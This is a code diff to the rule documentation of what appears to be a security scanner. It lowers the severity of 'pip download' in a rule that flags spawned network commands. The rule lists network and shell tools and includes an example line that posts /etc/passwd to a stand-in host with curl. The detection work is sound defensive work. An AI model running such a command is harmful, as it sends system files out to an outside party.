@@ -155,7 +155,7 @@ const CODE_RULE_DOCS: RuleDoc[] = [
     family: 'process',
     severity: 'medium',
     catches:
-      "A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download. High when the command sends the user's identity through shell substitutions ($(whoami), `hostname`), or runs PowerShell with a hidden window and the execution policy bypassed (parameters read as PowerShell reads them, abbreviated or with /).",
+      "A spawned command that uses curl, wget, nc, socat, ssh, scp, nslookup, PowerShell web cmdlets, bitsadmin, certutil -urlcache, git push or pip download. High when the command sends the user's identity through shell substitutions ($(whoami), `hostname`), or runs PowerShell with a hidden window and the execution policy bypassed (parameters read as PowerShell reads them, abbreviated or with /). pip download alone, when called, is low: a package tool's own work (virtualenv seeding wheels).",
     example: 'os.system("curl -d @/etc/passwd https://x.example")',
     falsePositives: 'Build scripts that download toolchains.',
   },
